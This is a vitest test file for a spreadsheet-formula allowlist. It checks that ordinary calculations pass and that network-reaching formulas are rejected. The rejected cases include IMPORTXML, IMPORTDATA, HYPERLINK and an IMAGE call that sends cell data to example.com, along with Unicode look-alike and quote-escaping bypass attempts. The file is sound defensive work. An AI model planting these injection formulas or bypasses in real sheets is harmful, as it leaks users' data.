// Formulas that the server takes from the sidebar: they calculate, and neither fetch, nor link, nor run anything else.
import { expect, it } from 'vitest'
import { isAllowed } from '../../src/drafts/allowed'
import { budgetDraft } from '../../src/drafts/budget/budget'
import { comparisonDraft } from '../../src/drafts/comparison/comparison'
import type { Draft } from '../../src/drafts/draft'
import type { Scenario } from '../../src/scenario/scenario'
import { scenarioOf, sendOf, TODAY } from '../support/budget'

it.each([
  '=1+1',
  '=$B$5',
  '=SUM(A1:A9)*MAX(1,ROUND(B2/3,0))',
  '=SUM ( A1 )',
  '=IF(A1="","",A1)',
  '="IMPORTXML(""x"")"',
  '="a"&"=HYPERLINK("',
  '="it\'s"&"IMPORTDATA(\'x\')"',
  "='IMPORTXML(x)'!A1",
  "='it''s IMAGE(x)'!A1+1",
  '=\'say "IMPORTDATA(1)"\'!A1',
  '=ARRAYFORMULA({1;2}*(A1:A2))',
  '=LINE_OA_COST("light","JP",5000,"2026-11")',
  '="予算（IMPORTXML（"&A1&"））"',
])('%s calculates', (formula) => {
  expect(isAllowed(formula)).toBe(true)
})

it.each([
  '',
  'SUM(A1)',
  ' =SUM(A1)',
  '+IMPORTXML("x","y")',
  '=IMPORTXML("https://example.com","//a")',
  '=IMPORTRANGE("x","A1")',
  '=HYPERLINK("https://example.com","total")',
  '=IMAGE("https://example.com/?"&A1)',
  '=GOOGLETRANSLATE("x")',
  '=IMPORTXML ("x")',
  '=IMPORTXML\n("x")',
  '=IMPORTXML\u00a0("x")',
  '=SUM(1,IMPORTDATA("x"))',
  '=sum(A1)',
  '=importdata("x")',
  '=ImportData("x")',
  // Look-alikes: wide letters and brackets, Greek, Cyrillic, a letter with an accent of its own, one that nobody sees.
  '=ＩＭＰＯＲＴＤＡＴＡ("x")',
  '=IMPORTDATA（"x"）',
  '=ΣUM(A1)',
  '=SUМ(A1)',
  '=SUM\u0301(A1)',
  '=SU\u200bM(A1)',
  '=A1(1)',
  '=Budget(1)',
  '=LINE_OA_RATES("JP")',
  '=LAMBDA(x,x)(1)',
  '=LET(x,1,x)',
  '=INDIRECT("A1")',
  '=QUERY(A1:A2,"select A")',
  // The text ends where a quote is, and a doubled one goes on.
  '="a"&IMPORTDATA("b")&"c"',
  '="a"""&IMPORTDATA("b")',
  `="'"&IMPORTDATA("x")&"'"`,
  `='"'!A1&IMPORTDATA("x")&'"'!A1`,
  "='a'''!A1&IMPORTDATA(A1)",
  '=ERROR.TYPE(A1)',
  '=XSUM(A1)',
  '=SUM.X(A1)',
])('%j is not taken', (formula) => {
  expect(isAllowed(formula)).toBe(false)
})

/** Everything that a draft has the sheet calculate. */
function formulasOf({ areas, rules, colours }: Draft): string[] {
  const cells = areas.flatMap(({ cells }) => cells.flat())
  const contents = cells.flatMap((cell) =>
    cell && typeof cell.content === 'object' && 'formula' in cell.content ? [cell.content.formula] : [],
  )
  const checks = rules.flatMap(({ takes }) => ('formula' in takes ? [takes.formula] : []))
  return [...contents, ...checks, ...colours.map(({ formula }) => formula)]
}

it.each<[string, Partial<Scenario>]>([
  ['as it is', {}],
  ['with a tool, a cap and several accounts', { tool: 'lstep', cap: 5, accounts: 2, withTax: true }],
  ['that grows in people', { growthBy: 'number', market: 'TH', plan: 'cheapest' }],
  ['named after functions', { name: '=IMPORTXML(1)', sends: [sendOf({ name: 'IMAGE("x")' })] }],
])('every formula of our tables is taken: a budget %s', (_what, change) => {
  const scenario = scenarioOf({ start: '2026-09', months: 3, ...change })
  const drafts = [
    budgetDraft(scenario, false, 'ja', TODAY),
    budgetDraft(scenario, true, 'th', TODAY),
    comparisonDraft([scenario, scenarioOf({ name: 'Other' })], 'zh-TW'),
  ]
  const all = drafts.flatMap(formulasOf)
  expect(all.length).toBeGreaterThan(300)
  expect(all.filter((formula) => !isAllowed(formula))).toEqual([])
})
